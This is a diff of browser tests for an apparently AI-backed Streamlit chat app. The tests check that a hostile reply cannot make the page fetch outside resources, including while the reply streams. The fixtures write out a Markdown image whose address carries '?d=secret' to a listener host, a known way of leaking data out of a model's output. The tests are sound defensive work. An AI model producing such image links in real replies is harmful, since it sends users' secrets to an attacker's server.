@@ -124,6 +124,10 @@ def test_a_hostile_reply_loads_nothing_and_the_page_asks_no_other_host(verbose, 
         idle(page)
         assert hit.inner_text().startswith(shown_title)  # the title as plain text, not markup
         assert hit.locator("a, img, strong").count() == 0
+        # The snippet is plain text too: the reply's address in it is no link (GitHub-flavoured Markdown
+        # would make one of any bare `http://…` or `www.…`), only the match is bold.
+        results = page.locator('[data-testid="stPopoverBody"]')
+        assert "/md-image?d=secret" in results.inner_text() and results.locator("a, img").count() == 0
         page.screenshot(path=str(ARTIFACTS / "security-search.png"))
         page.wait_for_timeout(1000)  # anything late (a lazy image) would have asked by now
 
@@ -147,3 +151,30 @@ def test_the_config_hides_the_developer_menu():
     settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
     assert settings["client"]["toolbarMode"] == "minimal"
     assert "client.toolbarMode" in config._config_options_template  # still Streamlit's name for it
+
+
+def test_an_image_still_being_written_is_never_drawn_while_it_streams(served, api, listener):
+    """While a reply streams, Streamlit completes unclosed Markdown, so a half-written image would be
+    drawn with a placeholder address (`streamdown:incomplete-image`, refused by the policy): an image
+    is shown (as its link) only once it is written whole, and the browser asks for nothing meanwhile."""
+    from playwright.sync_api import sync_playwright
+
+    text = f"Look ![leak]({listener.base}/stream-image?d=secret) and [a link]({listener.base}/link) done."
+    api.queue(reply(text, chunks=40, delay=0.08))  # the image's address arrives over many deltas
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        page = browser.new_page(viewport={"width": 1280, "height": 800})
+        requests, console = [], []
+        page.on("request", lambda r: requests.append(r.url))
+        page.on("console", lambda m: console.append(m.text))
+        open_app(page, served.url)
+        send(page, "go")
+        page.wait_for_function("() => document.body.innerText.includes('done.')", timeout=30000)
+        idle(page)
+        bubble = page.locator(MESSAGES).last
+        assert bubble.locator(f'a[href^="{listener.base}/stream-image"]').count() == 1 and bubble.locator("img").count() == 0
+        assert listener.paths == []
+        others = [u for u in requests if not u.startswith((served.url, "data:", "blob:", "about:"))]
+        assert others == [], others
+        assert not [m for m in console if "Content Security Policy" in m], console
+        browser.close()
